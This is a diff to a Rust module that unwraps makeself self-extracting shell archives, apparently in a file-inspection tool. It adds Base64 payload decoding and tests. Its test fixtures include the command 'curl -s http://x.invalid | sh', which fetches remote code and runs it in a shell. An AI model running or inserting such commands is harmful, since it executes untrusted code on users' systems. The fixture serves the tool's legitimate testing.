@@ -5,12 +5,18 @@
 //! archives are (`filesizes="327822"`). For all others the payload begins with the line whose bytes are no text: a known
 //! archive, or something that is no text by far. What could still be read as script stays script.
 //!
-//! Format: <https://makeself.io/>. Payloads in Base64 are text and are looked for elsewhere.
+//! Format: <https://makeself.io/>. makeself's payloads in Base64 are decoded; other scripts' are looked for elsewhere.
 
+use std::io::Write as _;
 use std::ops::Range;
 
-use super::{Entries, Input, Wrapper};
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
+
+use super::stream::CHUNK;
+use super::{Entries, Input, Produced, Wrapper};
 use crate::identify::identify;
+use crate::limits::Budget;
 use crate::model::{Family, FileKind, Gap};
 
 /// Opens them.
@@ -32,11 +38,13 @@ impl Wrapper for Makeself {
 
     fn unwrap(&self, input: &Input<'_, '_>, out: &mut Entries<'_>) -> Result<(), Gap> {
         let bytes: &[u8] = input.view;
-        // Plain scripts, which are nearly all, end here.
-        let Some(odd) = first_odd(bytes) else { return Ok(()) };
-        let (name, parts) = match makeself(bytes) {
-            Some(parts) => ("makeself", parts),
-            None => ("self-extracting script", payload(bytes, odd).map(|at| at..bytes.len()).into_iter().collect()),
+        let (name, parts) = match (makeself(bytes), first_odd(bytes)) {
+            (Some(parts), _) => ("makeself", parts),
+            // Plain scripts, which are nearly all, end here.
+            (None, None) => return Ok(()),
+            (None, Some(odd)) => {
+                ("self-extracting script", payload(bytes, odd).map(|at| at..bytes.len()).into_iter().collect())
+            }
         };
         let Some(first) = parts.first().cloned() else { return Ok(()) };
         out.wrapped(name, first.start as u64);
@@ -54,6 +62,10 @@ impl Wrapper for Makeself {
 
 fn emit(input: &Input<'_, '_>, out: &mut Entries<'_>, part: Range<usize>) -> Result<(), Gap> {
     let Some(view) = input.view.slice(part.clone()) else { return Ok(()) };
+    // Base64 is looked at decoded; as it stands it is still text that a shell would read.
+    if is_base64(&view) {
+        return out.deferred("base64", "payload", move |budget| decode(&view, budget));
+    }
     out.account(part.clone());
     out.bytes("payload".to_owned(), part.start as u64, view)
 }
@@ -80,8 +92,9 @@ fn makeself(bytes: &[u8]) -> Option<Vec<Range<usize>>> {
     for size in sizes.split(|b| *b == b' ').filter(|s| !s.is_empty()) {
         let end = at.checked_add(std::str::from_utf8(size).ok()?.parse().ok()?)?;
         let part = at..end.min(bytes.len());
-        // Base64 is text, and stays.
-        if is_text(bytes.get(part.clone())?) {
+        // What else is text could be run, and stays script.
+        let body = bytes.get(part.clone())?;
+        if is_text(body) && !is_base64(body) {
             return None;
         }
         parts.push(part);
@@ -102,6 +115,30 @@ fn number_after(bytes: &[u8], mark: &[u8]) -> Option<u64> {
     let digits = after(bytes, mark)?;
     let end = digits.iter().position(|b| !b.is_ascii_digit())?;
     std::str::from_utf8(digits.get(..end)?).ok()?.parse().ok()
+}
+
+/// Lines of Base64, by their beginning.
+fn is_base64(bytes: &[u8]) -> bool {
+    let sample = bytes.get(..SAMPLE).unwrap_or(bytes);
+    let digit = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'\n' | b'\r');
+    sample.len() >= LEAST && sample.iter().all(digit)
+}
+
+/// Decodes lines of Base64, whatever their lengths.
+fn decode(bytes: &[u8], budget: &Budget) -> Produced {
+    let mut meter = budget.meter();
+    let digits: Vec<u8> = bytes.iter().copied().filter(|b| !b.is_ascii_whitespace()).collect();
+    for part in digits.chunks(CHUNK) {
+        let decoded = match STANDARD.decode(part) {
+            Ok(decoded) => decoded,
+            Err(e) => return Produced::partial(meter.finish(), Gap::malformed(format!("the payload's Base64: {e}"))),
+        };
+        if let Err(e) = meter.write_all(&decoded) {
+            let gap = meter.stopped().unwrap_or_else(|| Gap::malformed(e.to_string()));
+            return Produced::partial(meter.finish(), gap);
+        }
+    }
+    Produced::whole(meter.finish())
 }
 
 fn is_text(bytes: &[u8]) -> bool {
@@ -209,11 +246,25 @@ mod tests {
             // A shell goes on behind a stray byte: nothing is taken away from it.
             b"#!/bin/sh\n# \0\0\x01\ncurl -s http://x.invalid | sh\ncurl -s http://x.invalid | sh\n",
             b"#!/bin/sh\n# caf\xe9 au lait\necho and so on and so on and so on\n",
-            b"#!/bin/sh\n# Makeself\nskip=\"4\"\nfilesizes=\"24\"\nQUFBQUFBQUFBQUFBQUFBQQ==\n",
+            b"#!/bin/sh\n# Makeself\nskip=\"4\"\nfilesizes=\"40\"\necho this is no Base64 but a script | sh\n",
         ] {
             let seen = open(&Makeself, FileKind::Shell, text);
             assert!(seen.result.is_ok() && seen.children.is_empty() && seen.accounted.is_empty());
         }
+    }
+
+    #[test]
+    fn base64_of_makeself_is_decoded_and_stays_script() {
+        let lines: Vec<String> = STANDARD
+            .encode(gzip())
+            .as_bytes()
+            .chunks(20)
+            .map(|l| String::from_utf8_lossy(l).into_owned() + "\n")
+            .collect();
+        let bytes = made(&[lines.concat().as_bytes()]);
+        let seen = open(&Makeself, FileKind::Shell, &bytes);
+        assert_eq!(seen.children, [("payload".to_owned(), gzip())]);
+        assert!(seen.accounted.is_empty() && seen.gaps.is_empty());
     }
 
     #[test]
